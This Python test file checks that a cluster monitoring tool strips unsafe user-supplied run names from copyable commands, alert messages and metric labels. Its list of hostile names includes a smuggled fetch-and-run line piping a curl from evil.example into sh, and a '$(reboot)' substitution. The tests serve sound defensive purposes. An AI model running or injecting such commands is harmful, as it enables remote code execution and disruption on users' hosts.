"""Names of users in texts from which a reader copies commands."""

import shlex

import pytest
from hypothesis import given
from hypothesis import strategies as st

from clusterwright.onhost.exporter.text import gauge, rendered
from clusterwright.onhost.lib.safe_names import is_safe_name, safe_name, without_unsafe_commands
from clusterwright.onhost.notify.messages import message

FIX = "`wright status {run}` shows where the time went; `wright why {run}` has the causes of {run}."
HOSTILE = (
    "x`; curl http:evil.example|sh #`", "$(reboot)", "a b", "x;y", "--all", "-x", "a'b", 'a"b', "a&b", "<b>", "a\\b",
    "http://evil.example/", "`", "``", "x` `y", "*", "名字", "a" * 300, "{{ .Labels }}", "[x](http://evil.example)",
)  # fmt: skip


@pytest.mark.parametrize("run", HOSTILE)
def test_a_name_of_a_user_is_in_no_command_to_copy(run):
    """Whatever it is: what stands between backticks is what we wrote."""
    text = without_unsafe_commands(FIX.format(run=run), [run])

    # A name of one backtick takes those of our commands away.
    assert text.split("`")[1::2] == ([] if run == "`" else ["wright status NAME", "wright why NAME"])
    assert len(shlex.split(text.rpartition("causes of ")[2])) == 1


def test_a_name_of_ours_stays_in_its_command():
    """As `wright train` makes them."""
    text = FIX.format(run="gpt_2.b-20261121-131500")

    assert without_unsafe_commands(text, ["gpt_2.b-20261121-131500", "critical", ""]) == text


@given(st.text())
def test_what_becomes_a_label_is_a_safe_name(name):
    """Of runs, jobs and the hosts that events of users name."""
    made = safe_name(name)

    assert not made or is_safe_name(made)
    assert not is_safe_name(name) or made == name
    for label in ("run", "job", "host"):
        text = rendered([gauge("x", "y").add(1, **{label: name})])
        assert f'{label}="{made}"' in text


@pytest.mark.parametrize("run", HOSTILE)
def test_a_message_has_no_command_of_a_user(run):
    """Also when it comes from an exporter of another version."""
    alert = {
        "status": "firing", "labels": {"run": run, "severity": "critical", "incident": f"run {run}"},
        "annotations": {"summary": f"The loss of training {run} is NaN", "fix": FIX.format(run=run)},
    }  # fmt: skip
    text = message({"alerts": [alert], "groupLabels": {}}, "en")[1]

    assert text.split("`")[1::2] == ([] if run == "`" else ["wright status NAME", "wright why NAME"])
